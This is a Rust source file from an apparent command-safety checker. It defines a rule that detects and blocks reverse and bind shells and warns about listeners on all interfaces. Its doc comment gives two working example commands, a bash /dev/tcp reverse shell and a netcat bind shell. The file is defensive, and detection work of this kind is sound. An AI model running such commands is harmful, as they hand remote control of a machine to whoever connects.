//! Reverse or bind shell.
//!
//! # What
//!
//! A shell or interpreter whose input or output is a network connection, in either direction. A raw
//! listener on all interfaces without a shell is asked about.
//!
//! # Why
//!
//! It hands the machine to whoever is at the other end.
//!
//! # Example
//!
//! ```text
//! bash -i >& /dev/tcp/203.0.113.5/9001 0>&1
//! nc -lvp 9001 -e /bin/sh
//! ```
//!
//! # Instead
//!
//! Use ssh to work on another machine; listen on 127.0.0.1 for tests.
//!
//! # Answers
//!
//! ```toml
//! [networked]
//! all = "block"
//! confidence = 0.99
//! core = true
//! instead = "Use ssh to work on another machine."
//!
//! [listener]
//! default = "warn"
//! sysadmin = "warn"
//! restricted = "block"
//! confidence = 0.7
//! instead = "Listen on 127.0.0.1 only."
//! ```

use crate::action::Action;
use crate::finding::{Findings, Rule};
use crate::hosts::is_local_binding;
use crate::paths::glob::Match;
use crate::table::kinds::reverse_or_bind_shell as kind;
use crate::table::manuals;
use crate::view::{View, show};
use aegish_effects::{EffectKind, Invocation, ShellEntry};
use aegish_profiles::Trait;

pub(crate) const RULE: Rule = Rule {
    id: "3",
    name: "reverse-or-bind-shell",
    title: "Reverse or bind shell",
    summary: "A shell is connected to the network.",
    action: Action::Block,
    manual: manuals::REVERSE_OR_BIND_SHELL,
    kinds: kind::ALL,
};

pub(crate) fn check(view: &View<'_>, out: &mut Findings<'_>) {
    match view.effect() {
        Some(EffectKind::Shell { entry: ShellEntry::Interactive, invocation })
            if (*invocation == Invocation::Indirect || view.started_indirectly())
                && view.runs_on_a_connection() =>
        {
            out.add(&RULE, &kind::NETWORKED, Match::Must, || {
                "connects a shell to the network".to_owned()
            });
        }
        Some(EffectKind::Shell { entry: ShellEntry::Networked, .. }) => {
            out.add(&RULE, &kind::NETWORKED, Match::Must, || {
                "connects a shell to the network".to_owned()
            });
        }
        Some(EffectKind::Listen { host, port })
            if !is_local_binding(host) && !serves_an_application(view) =>
        {
            out.add(&RULE, &kind::LISTENER, Match::Must, || {
                format!("waits for connections from anywhere on port {}", show(port))
            });
        }
        _ => {}
    }
}

fn serves_an_application(view: &View<'_>) -> bool {
    view.program_is(Trait::ApplicationServer)
}
